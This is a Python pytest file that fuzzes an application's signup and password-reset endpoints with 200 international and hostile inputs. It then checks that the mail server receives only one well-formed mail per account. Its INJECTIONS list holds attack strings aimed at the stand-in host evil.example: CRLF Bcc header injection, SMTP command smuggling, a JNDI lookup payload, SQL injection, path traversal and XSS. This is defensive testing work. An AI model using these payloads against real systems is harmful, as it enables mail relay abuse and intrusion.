"""What users send never becomes more than the recipient or the text of one e-mail: 200 international and hostile inputs
through the forms and the API, to a real mail server, read back by Python's parser."""

import random
import re
import socket
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from urllib.parse import parse_qs, urlsplit

import pytest

from mail import SENDER
from support import PASSWORD, Browser, wait_until

COUNT = 200
APPLICATION = "https://app.example.net"
OPERATOR = 'Aufgaben, "Łódź" 日本 <latchkey@example.org>'

VALID = [
    "plain@example.com", "o'brien@example.com", "a.b-c_d+tag@example.co.uk", "UPPER.Case@Example.COM",
    "x@a-b.c-d.example", "1234567890@123.example", "-dash-@example.com", "_@example.com", "a+b+c+d@example.com",
    "user@xn--mnchen-3ya.example", "user@xn--fsqu00a.example", " spaces.around@example.com ",
    "l" * 64 + "@example.com", "long@" + ".".join(["d" * 60] * 4)[:240] + ".com", "bcc@example.com", "rcpt@to.example",
]
"""Addresses that a mail server takes as they are."""

INJECTIONS = [
    "\r\nBcc: eve@evil.example", "\nBcc: eve@evil.example", "\rBcc: eve@evil.example", "\r\n\r\n<h1>Hi</h1>",
    "\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA\r\n", "\n.\n", "\r\n.\r\n", "\0",
    ">\r\nRCPT TO:<eve@evil.example", "> NOTIFY=NEVER", "> ORCPT=rfc822;eve@evil.example", ">,<eve@evil.example",
    ",eve@evil.example", ";eve@evil.example", " eve@evil.example", "%0d%0aBcc:%20eve@evil.example", "%0ABcc:eve",
    "\u2028Bcc: eve@evil.example", "\u2029", "\u0085Bcc: eve", "\x0bBcc: eve", "\x0cBcc: eve", "\u560d\u560aBcc: eve",
    "=?utf-8?Q?=0D=0ABcc:_eve@evil.example?=", "=?UTF-8?B?DQpCY2M6IGV2ZQ==?=", "\"", "\\", "\\\"@evil.example", "(comment)",
    "<script>alert(1)</script>", "{{ mail.link }}", "{% block content %}", "${jndi:ldap://evil.example/a}", "' OR 1=1 --",
    "../../etc/passwd", "\u202egnp.exe", "\u200b", "＠evil.example", "é@evil.example", "日本語", "👩‍👩‍👧‍👦", "İ", "ß", "ﬀ",
    "--boundary\r\nContent-Type: text/html", "X" * 2000, "\r\n" * 50, "\t", "\x1b[2J", "\x7f", "http://evil.example/ ",
]
NAMES = ["Łukasz Żółć", "山田 太郎", "محمد", "O'Brien-Smith", "Zoë \"Z\" Q.", "А. С. Пушкин", "👩‍👩‍👧‍👦", "", "Nguyễn Văn Ánh"]
HEADERS = [
    "Date", "From", "To", "Subject", "Message-ID", "MIME-Version", "Auto-Submitted", "X-Auto-Response-Suppress",
    "Content-Type", "X-Peer", "X-MailFrom", "X-RcptTo"]
SUBJECTS = {"Set a new password": "reset", "Confirm your e-mail address": "verify"}


@dataclass
class Input:
    number: int
    address: str
    name: str
    agent: str
    host: str
    forwarded: str
    target: str
    by_form: bool


def inputs() -> list[Input]:
    chance = random.Random(13)

    def hostile(text: str) -> str:
        place = chance.randrange(len(text) + 1)
        return text[:place] + chance.choice(INJECTIONS) + text[place:]

    def sometimes(text: str, odds: float) -> str:
        return hostile(text) if chance.random() < odds else text

    found = []
    for number in range(COUNT):
        # Every valid address twice, at different hosts of its domain, then more of them with an injection.
        local, domain = chance.choice(VALID).rsplit("@", 1) if number >= 2 * len(VALID) else VALID[number // 2].rsplit("@", 1)
        address = f"{local}@{domain}" if number < len(VALID) * 2 and number % 2 == 0 else f"{local[:50]}{number}@{domain}"
        found.append(Input(
            number, sometimes(address, 0.4) if number >= 2 * len(VALID) else address,
            sometimes(chance.choice(NAMES), 0.6), sometimes("Mozilla/5.0", 0.6), sometimes("localhost", 0.3),
            sometimes("203.0.113.7", 0.6), sometimes(f"{APPLICATION}/new?next=/a b&c=é", 0.6), number % 3 == 0))
    return found


def request(server, path: str, body: dict, given: Input) -> int:
    """As its bytes are, which no client library would send; the status of the answer."""
    import json
    content = json.dumps(body).encode()
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {given.host}\r\nUser-Agent: {given.agent}\r\nX-Forwarded-For: {given.forwarded}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n")
    with socket.create_connection(("127.0.0.1", server.port), 20) as wire:
        wire.settimeout(20)
        answer = b""
        try:
            wire.sendall(head.encode() + content)
            while more := wire.recv(65536):
                answer += more
        except ConnectionError:
            pass
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0


def test_no_input_becomes_more_than_one_mail_to_one_address(stopped_server, mail_server):
    server = stopped_server
    server.settings |= mail_server.settings(
        MAIL_FROM=OPERATOR, EMAIL_VERIFICATION="optional", BETTER_AUTH_TRUSTED_ORIGINS=APPLICATION,
        LATCHKEY_URL="http://localhost:8000", TRUSTED_PROXIES="127.0.0.1")
    server.start()

    def signs_up(given: Input) -> str | None:
        """The address of the account, if it was made."""
        body = {"email": given.address, "password": PASSWORD, "username": given.name}
        if given.by_form:
            with Browser(server.url) as browser:
                answer = browser.submits("/signup", on="/signup", email=given.address, password=PASSWORD, name=given.name)
            status = 201 if answer.status_code == 303 else answer.status_code
        else:
            status = request(server, "/api/auth/signup", body, given)
        for again in body, body | {"username": None}:
            # Odd headers and names may be refused; the address is then tried without them.
            if status != 201:
                status = server.client.post("/api/auth/signup", json=again).status_code
        assert status in (201, 400, 409, 422), (given, status)
        return given.address.strip().lower() if status == 201 else None

    def forgets(given: Input) -> str | None:
        """The page that the link leads to, if the request was accepted; empty for our own."""
        if given.by_form:
            with Browser(server.url) as browser:
                answer = browser.submits("/forgot", on="/forgot", email=given.address)
            return "" if answer.status_code == 303 else None
        body = {"email": given.address, "redirectTo": given.target}
        status = request(server, "/api/auth/request-password-reset", body, given)
        if status == 200:
            return given.target
        # Or the connection was closed: what came was no request.
        assert status == 0 or 400 <= status < 500, (given, status)
        answer = server.client.post("/api/auth/request-password-reset", json={"email": given.address})
        return "" if answer.status_code == 200 else None

    given = inputs()
    with ThreadPoolExecutor(4) as pool:
        accounts = list(pool.map(signs_up, given))
        owned = [one for one, account in zip(given, accounts) if account]
        targets = dict(zip((account for account in accounts if account), pool.map(forgets, owned)))
        # Those without an account ask as well.
        list(pool.map(forgets, [one for one, account in zip(given, accounts) if not account]))

    # The simple ones are taken, and nothing that is no address in ASCII.
    addresses = [account for account in accounts if account]
    assert len(set(addresses)) == len(addresses) >= 2 * len(VALID)
    assert all(re.fullmatch(r"[a-z0-9_'+.-]{1,64}@[a-z0-9.-]+\.[a-z0-9-]{2,}", address) for address in addresses)
    assert {address.strip().lower() for address in VALID} <= set(addresses)
    expected = len(addresses) + sum(target is not None for target in targets.values())
    wait_until(lambda: len(mail_server.kept) >= expected, f"{expected} mails", 60)
    server.stop()

    # What the mail server was told: the same four commands for each e-mail, to accounts alone.
    assert len(mail_server.kept) == expected == len(mail_server.arrived)
    said = {name: [argument for command, argument, _ in mail_server.commands if command == name] for name in mail_server.names()}
    assert set(said) <= {"EHLO", "MAIL", "RCPT", "DATA", "QUIT"}
    assert set(said["EHLO"]) == {"localhost"} and set(said["DATA"]) == {""}
    assert all(re.fullmatch(rf"FROM:<{SENDER}>( SIZE=\d+)?", argument) for argument in said["MAIL"])
    assert {argument for argument in said["RCPT"]} == {f"TO:<{address}>" for address in addresses}
    assert len(said["MAIL"]) == len(said["RCPT"]) == len(said["DATA"]) == expected

    seen = set()
    for mail in mail_server.kept:
        message, address = mail.message, mail.recipient
        kind = SUBJECTS[message["Subject"]]
        assert (address, kind) not in seen
        seen.add((address, kind))
        assert message.defects == [] and [part.defects for part in message.walk()] == [[], [], []]
        assert set(message.keys()) <= set(HEADERS) and len(message.keys()) == len(set(message.keys()))
        assert (message["To"], message["From"].addresses[0].display_name) == (address, 'Aufgaben, "Łódź" 日本')
        assert [one.addr_spec for one in message["From"].addresses] == [SENDER]
        assert message["Subject"].defects == () and all(not message[name].defects for name in ("From", "To", "Date"))
        assert mail.data.isascii() and b"evil" not in mail.data.lower().replace(b"=\r\n", b"").split(b"callbackurl")[0]
        text = mail.text()
        assert text.count(address) == 1 and f"for {address} at localhost" in text
        assert mail.link in mail.text("html").replace("&amp;", "&")
        place = urlsplit(mail.link)
        assert (place.scheme, place.netloc) == ("http", "localhost:8000")
        if kind == "verify":
            assert re.fullmatch(r"/verify/[0-9A-Za-z]+", place.path) and place.query == ""
        elif targets[address]:
            assert re.fullmatch(r"/api/auth/reset-password/[0-9A-Za-z]+", place.path)
            page, = parse_qs(place.query, strict_parsing=True)["callbackURL"]
            assert page == targets[address] and urlsplit(page).netloc in ("app.example.net", "")
        else:
            assert re.fullmatch(r"/reset/[0-9A-Za-z]+", place.path) and place.query == ""
        lines = [line for line in text.splitlines() if "://" in line]
        assert lines == [mail.link]
    assert len(seen) == expected
